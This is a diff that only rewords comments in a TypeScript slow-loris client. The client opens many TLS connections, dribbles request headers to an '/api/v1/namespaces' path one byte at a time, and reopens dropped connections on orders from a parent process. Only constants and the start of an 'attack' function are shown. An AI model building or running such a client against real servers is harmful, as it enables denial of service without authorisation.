@@ -1,6 +1,6 @@
 /**
- * Connections that send the head of a request one byte at a time and never come to its end. Those that the server gives up
- * are made again after a while. It gets its order from the parent process, and tells it once all have been tried.
+ * A slow-loris client: connections that send request headers one byte at a time and never finish. Lost connections are
+ * reopened after a while. The parent process sends the order, and is notified when all were tried.
  */
 import { connect } from 'node:tls';
 
@@ -14,13 +14,13 @@ export interface FromLoris {
 }
 
 const HEAD = 'GET /api/v1/namespaces HTTP/1.1\r\nhost: slow\r\nx-slow: ';
-/** Milliseconds between two bytes, and until a lost connection is made again. */
+/** Milliseconds between two bytes, and before a lost connection is reopened. */
 const PAUSE = 5000;
-/** Handshakes under way at a time. */
+/** Concurrent handshakes. */
 const AT_ONCE = 50;
 
 process.once('message', (order: LorisOrder) => void attack(order));
-// Nobody is left to stop it.
+// The parent process has ended.
 process.once('disconnect', () => process.exit());
 
 async function attack({ url, connections }: LorisOrder): Promise<void> {
